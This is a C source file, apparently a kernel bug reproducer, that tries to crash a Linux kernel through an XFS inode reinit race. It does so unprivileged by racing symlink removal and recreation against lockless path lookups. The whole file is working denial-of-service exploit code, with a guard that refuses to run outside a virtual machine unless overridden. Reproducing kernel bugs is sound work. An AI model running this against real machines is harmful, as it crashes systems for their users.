// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * Kills a kernel by the XFS inode reinit race, from user space and without privileges.
 *
 * A symlink's last name is removed while others look it up. Its inode is evicted, and XFS keeps it for
 * a while (XFS_IRECLAIMABLE). The next file that is made in that allocation group gets the same inode
 * number: xfs_iget() finds the inode in its cache and recycles it. inode_init_always() puts empty_iops
 * there for a moment. A lookup without locks (RCU walk) that found the inode before the name was removed
 * calls inode->i_op->get_link now, which is NULL; or it meets the new file, which need not be a symlink.
 *
 * One process, the maker, removes names and makes them again in the shapes asked for; the others look
 * them up, several in one path, since only the steps from one link to the next are in danger. A walker
 * must stop for as long as it takes to remove, evict and recycle: where the kernel can be preempted,
 * another walker on its CPU does that; in a guest it is a virtual CPU that its host takes away.
 *
 * It writes nothing outside a folder of its own on the file system named, and removes that folder at its
 * end. What it can harm is the running kernel; so it refuses to run outside of a guest unless told to.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <getopt.h>
#include <grp.h>
#include <linux/openat2.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/vfs.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "in_guest.h"

#define XFS_MAGIC   0x58465342
#define MAX_LINKS   1024
#define MAX_WALKERS 4096
#define MAX_SHAPES  16
#define MAX_HOPS    40 /* the kernel follows no more in one look-up */
#define NAME_SIZE   32

/* What takes the removed link's inode. Each is made under the link's name; the last in a round is a link. */
enum shape { LINK, FILE_, DIRECTORY, USED_DIRECTORY, DEVICE, FIFO, EVICTED, NR_SHAPES };

static const char *const shape_names[NR_SHAPES] = {"link",   "file", "directory", "used-directory",
						   "device", "fifo", "evicted"};

/* @rounds is shared with the maker, so that the parent can tell how far it is. */
static struct {
	unsigned links, walkers, hops, seconds, nr_shapes, user;
	enum shape shapes[MAX_SHAPES];
	bool pin, realtime, really, quiet, cached;
	volatile uint64_t *rounds;
	pid_t children[MAX_WALKERS + 1];
	unsigned nr_children;
} opt = {.links = 8,
	 .hops = 4,
	 .seconds = 60,
	 .nr_shapes = 1,
	 .shapes = {FILE_},
	 .pin = true,
	 .cached = true};

static void die(const char *format, ...)
{
	va_list ap;

	fputs("reproducer: ", stderr);
	va_start(ap, format);
	vfprintf(stderr, format, ap);
	va_end(ap);
	fputc('\n', stderr);
	exit(2);
}

static void usage(FILE *to)
{
	fputs("usage: reproducer [OPTION]... MOUNT-POINT\n"
	      "Tries to kill this kernel by the XFS inode reinit race. MOUNT-POINT: an XFS, "
	      "mounted noatime.\n"
	      "  -t, --seconds N   give up after N seconds (60)\n"
	      "  -l, --links N     names that are removed and made again (8)\n"
	      "  -w, --walkers N   processes that look them up (one a CPU but the first)\n"
	      "  -o, --hops N      links that one look-up follows (4; at most 40)\n"
	      "  -s, --shapes LIST what is made in a link's place, in turn (file):\n"
	      "                    link, file, directory, used-directory, device, fifo, evicted\n"
	      "                    evicted: the link stays, its inode leaves memory (root)\n"
	      "  -S, --stat        look up by stat(), which takes locks where it loses a race\n"
	      "  -f, --free        do not pin each process to a CPU\n"
	      "  -r, --realtime    the maker runs as a realtime task and preempts walkers (root)\n"
	      "  -u, --user UID    go on as this user once the folder is made (root)\n"
	      "  -q, --quiet       no line each second\n"
	      "      --really      run outside of a guest, too: THIS MACHINE WILL CRASH\n"
	      "Exit status: 0 survived, 2 could not be tried. A kernel that dies says nothing.\n",
	      to);
}

static unsigned number(const char *text, unsigned max)
{
	char *end;
	unsigned long n = strtoul(text, &end, 10);

	if (!*text || *end || !n || n > max)
		die("\"%s\" is no number from 1 to %u", text, max);
	return (unsigned)n;
}

static void read_shapes(char *list)
{
	opt.nr_shapes = 0;
	for (char *name = strtok(list, ","); name; name = strtok(NULL, ",")) {
		unsigned i = 0;

		while (i < NR_SHAPES && strcmp(name, shape_names[i]))
			i++;
		if (i == NR_SHAPES)
			die("there is no shape \"%s\"", name);
		if (opt.nr_shapes == MAX_SHAPES)
			die("more than %d shapes", MAX_SHAPES);
		opt.shapes[opt.nr_shapes++] = i;
	}
	if (!opt.nr_shapes)
		die("which shapes?");
}

static void pin(unsigned cpu)
{
	cpu_set_t set;

	if (!opt.pin)
		return;
	CPU_ZERO(&set);
	CPU_SET(cpu, &set);
	sched_setaffinity(0, sizeof(set), &set);
}

static void name_of(unsigned i, char name[NAME_SIZE])
{
	snprintf(name, NAME_SIZE, "link%u", i);
}

static void drop_inodes(void)
{
	int fd = open("/proc/sys/vm/drop_caches", O_WRONLY | O_CLOEXEC);

	if (fd < 0 || write(fd, "2", 1) != 1)
		die("evicted: cannot drop the caches: %s", strerror(errno));
	close(fd);
}

/* Make @name anew as @shape, and remove it again. */
static void occupy(const char *name, enum shape shape)
{
	char file[NAME_SIZE + 8];
	int fd;

	switch (shape) {
	case FILE_:
		fd = open(name, O_CREAT | O_WRONLY | O_CLOEXEC, 0644);
		if (fd >= 0)
			close(fd);
		break;
	case DIRECTORY: mkdir(name, 0755); break;
	case USED_DIRECTORY:
		/* A lookup in it raises i_dir_seq, which lies where a symlink's text is. */
		mkdir(name, 0755);
		snprintf(file, sizeof(file), "%s/file", name);
		fd = open(file, O_CREAT | O_WRONLY | O_CLOEXEC, 0644);
		if (fd >= 0)
			close(fd);
		unlink(file);
		break;
	case DEVICE:
		mknod(name, S_IFCHR | 0600, 0);
		break; /* 0:0, a whiteout: needs no privilege */
	case FIFO: mkfifo(name, 0600); break;
	case EVICTED: drop_inodes(); return;
	default: return;
	}
	if (unlink(name))
		rmdir(name);
}

static void make_and_remove(void)
{
	char name[NAME_SIZE];

	pin(0);
	prctl(PR_SET_NAME, "maker");
	if (opt.realtime &&
	    sched_setscheduler(0, SCHED_FIFO, &(struct sched_param){.sched_priority = 1}))
		die("realtime: %s", strerror(errno));
	for (uint64_t n = 0;; n++) {
		enum shape shape = opt.shapes[n / opt.links % opt.nr_shapes];

		name_of((unsigned)(n % opt.links), name);
		if (shape != EVICTED)
			unlink(name);
		occupy(name, shape);
		if (shape != EVICTED && symlink(".", name) && errno != EEXIST)
			die("symlink %s: %s", name, strerror(errno));
		*opt.rounds = n;
	}
}

/* Each link leads to the folder it is in, so that a path can go on behind it: link3/link0/link1 */
static void path_from(unsigned i, char *path)
{
	for (unsigned hop = 0; hop < opt.hops; hop++) {
		if (hop)
			*path++ = '/';
		name_of((i + hop) % opt.links, path);
		path += strlen(path);
	}
}

/*
 * A walk that loses its race for a name begins anew with references and locks, and keeps the maker
 * waiting. RESOLVE_CACHED makes it end instead. It came with 5.12.
 */
static void look_up(const char *path)
{
	struct open_how how = {.flags = O_PATH | O_CLOEXEC, .resolve = RESOLVE_CACHED};
	struct stat st;
	long fd = -1;

	if (opt.cached)
		fd = syscall(SYS_openat2, AT_FDCWD, path, &how, sizeof(how));
	if (fd >= 0)
		close((int)fd);
	else if (!opt.cached || errno == EINVAL || errno == ENOSYS)
		(void)!stat(path, &st);
}

static void walk(unsigned nr)
{
	static char paths[MAX_LINKS][MAX_HOPS * NAME_SIZE];
	long cpus = sysconf(_SC_NPROCESSORS_ONLN);

	/* The first CPU is the maker's, where there are others. */
	pin(cpus > 1 ? 1 + nr % (unsigned)(cpus - 1) : 0);
	prctl(PR_SET_NAME, "walker");
	for (unsigned i = 0; i < opt.links; i++)
		path_from(i, paths[i]);
	for (;;) {
		for (unsigned i = 0; i < opt.links; i++)
			look_up(paths[i]);
	}
}

static void start(void (*run)(unsigned), unsigned arg)
{
	pid_t pid = fork();

	if (pid < 0)
		die("fork: %s", strerror(errno));
	if (pid) {
		opt.children[opt.nr_children++] = pid;
		return;
	}
	prctl(PR_SET_PDEATHSIG, SIGKILL);
	if (run)
		run(arg);
	else
		make_and_remove();
	_exit(2);
}

static void enter_folder(const char *mount_point, char *folder, size_t size)
{
	struct statfs fs;

	if (statfs(mount_point, &fs))
		die("%s: %s", mount_point, strerror(errno));
	if (fs.f_type != XFS_MAGIC)
		die("%s is not on XFS", mount_point);
	if (snprintf(folder, size, "%s/reproducer.XXXXXX", mount_point) >= (int)size ||
	    !mkdtemp(folder) || chdir(folder))
		die("%s: cannot make a folder there: %s", mount_point, strerror(errno));
}

static void stop(const char *folder)
{
	char name[NAME_SIZE];

	for (unsigned i = 0; i < opt.nr_children; i++) {
		kill(opt.children[i], SIGKILL);
		waitpid(opt.children[i], NULL, 0);
	}
	for (unsigned i = 0; i < opt.links; i++) {
		name_of(i, name);
		if (unlink(name))
			rmdir(name);
	}
	if (chdir("/") || rmdir(folder))
		fprintf(stderr, "reproducer: %s is left: %s\n", folder, strerror(errno));
}

/* Wait for the time that was asked for. Return: the seconds that passed, less when the maker or a walker ended. */
static unsigned wait_for_the_end(void)
{
	unsigned s = 0;

	while (s < opt.seconds) {
		sleep(1);
		s++;
		if (!opt.quiet) {
			printf("reproducer: %u s, %llu rounds\n", s,
			       (unsigned long long)*opt.rounds);
			fflush(stdout);
		}
		if (waitpid(-1, NULL, WNOHANG) > 0)
			die("a process ended before its time");
	}
	return s;
}

static const char *read_options(int argc, char **argv)
{
	static const struct option options[] = {
		{"seconds", 1, NULL, 't'}, {"links", 1, NULL, 'l'},    {"walkers", 1, NULL, 'w'},
		{"stat", 0, NULL, 'S'},	   {"hops", 1, NULL, 'o'},     {"shapes", 1, NULL, 's'},
		{"free", 0, NULL, 'f'},	   {"realtime", 0, NULL, 'r'}, {"user", 1, NULL, 'u'},
		{"quiet", 0, NULL, 'q'},   {"really", 0, NULL, 'R'},   {"help", 0, NULL, 'h'},
		{NULL, 0, NULL, 0}};
	int c;

	while ((c = getopt_long(argc, argv, "t:l:w:o:s:Sfru:qh", options, NULL)) >= 0) {
		switch (c) {
		case 't': opt.seconds = number(optarg, 1u << 20); break;
		case 'l': opt.links = number(optarg, MAX_LINKS); break;
		case 'w': opt.walkers = number(optarg, MAX_WALKERS); break;
		case 'o': opt.hops = number(optarg, MAX_HOPS); break;
		case 's': read_shapes(optarg); break;
		case 'S': opt.cached = false; break;
		case 'f': opt.pin = false; break;
		case 'r': opt.realtime = true; break;
		case 'u': opt.user = number(optarg, UINT32_MAX - 1); break;
		case 'q': opt.quiet = true; break;
		case 'R': opt.really = true; break;
		case 'h': usage(stdout); exit(0);
		default: usage(stderr); exit(2);
		}
	}
	if (optind + 1 != argc) {
		usage(stderr);
		exit(2);
	}
	return argv[optind];
}

/* For good: what follows has no privilege. */
static void become_user(const char *folder)
{
	if (opt.user && (chown(folder, opt.user, opt.user) || setgroups(0, NULL) ||
			 setgid(opt.user) || setuid(opt.user) || !setuid(0)))
		die("cannot become user %u: %s", opt.user, strerror(errno));
}

int main(int argc, char **argv)
{
	const char *mount_point = read_options(argc, argv);
	long cpus = sysconf(_SC_NPROCESSORS_ONLN);
	char folder[4096];
	unsigned seconds;

	if (!opt.really && !in_guest())
		die("this machine is no guest, and would crash: --really if that is wanted");
	if (!opt.walkers)
		opt.walkers = cpus > 1 ? (unsigned)cpus - 1 : 1;
	enter_folder(mount_point, folder, sizeof(folder));
	if (opt.realtime) /* the maker asks for it as that user */
		setrlimit(RLIMIT_RTPRIO, &(struct rlimit){1, 1});
	become_user(folder);
	opt.rounds = mmap(NULL, sizeof(*opt.rounds), PROT_READ | PROT_WRITE,
			  MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	if (opt.rounds == MAP_FAILED)
		die("not enough memory");
	printf("reproducer: uid %u, %ld CPUs, %u links, %u hops, %u walkers, %u s, in %s\n",
	       getuid(), cpus, opt.links, opt.hops, opt.walkers, opt.seconds, folder);
	fflush(stdout);
	for (unsigned i = 0; i < opt.walkers; i++)
		start(walk, i);
	start(NULL, 0);
	seconds = wait_for_the_end();
	stop(folder);
	printf("reproducer: survived %u s and %llu rounds\n", seconds,
	       (unsigned long long)*opt.rounds);
	return 0;
}
